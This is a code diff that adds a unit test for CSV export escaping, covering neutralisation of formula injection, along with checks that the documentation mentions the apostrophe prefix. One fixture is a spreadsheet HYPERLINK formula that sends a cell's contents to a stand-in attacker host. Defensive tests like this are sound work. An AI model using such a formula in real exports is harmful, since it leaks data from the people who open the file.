@@ -53,6 +53,27 @@ describe('open data formatting', () => {
     expect(toCsv(sample, [])).toBe('title,count,codes,present,at\r\n');
   });
 
+  it('writes a text cell that starts like a formula as text, and leaves numbers and plain text alone', () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&C2,"x")';
+    const rows = shapeRows(sample, [
+      { title: '=1+1', count: -2, codes: ['@SUM(A1)', '=B'], present: true, at: new Date(0) },
+      { title: '+1', count: 3, codes: ['-1'], present: true, at: new Date(0) },
+      { title: '\tx', count: null, codes: [], present: true, at: new Date(0) },
+      { title: '\rx', count: null, codes: [], present: true, at: new Date(0) },
+      { title: formula, count: null, codes: [], present: true, at: new Date(0) },
+      { title: 'a=1', count: 0, codes: ['A'], present: true, at: new Date(0) },
+    ]);
+    const parsed = parse(toCsv(sample, rows), { columns: true }) as Record<string, string>[];
+    expect(parsed.map((r) => [r.title, r.count, r.codes])).toEqual([
+      ["'=1+1", '-2', "'@SUM(A1);=B"],
+      ["'+1", '3', "'-1"],
+      ["'\tx", '', ''],
+      ["'\rx", '', ''],
+      [`'${formula}`, '', ''],
+      ['a=1', '0', 'A'],
+    ]);
+  });
+
   it('documents every column of every dataset, once, in both languages', () => {
     const text = readme({
       generatedAt: '2026-03-01T12:00:00.000Z',
@@ -70,5 +91,7 @@ describe('open data formatting', () => {
       }
     }
     expect(catalogue().datasets.map((d) => d.name)).toEqual([...DATASET_NAMES]);
+    expect(text).toContain("prefixed with an apostrophe `'`");
+    expect(catalogue().formats.csv.en).toContain('formula');
   });
 });
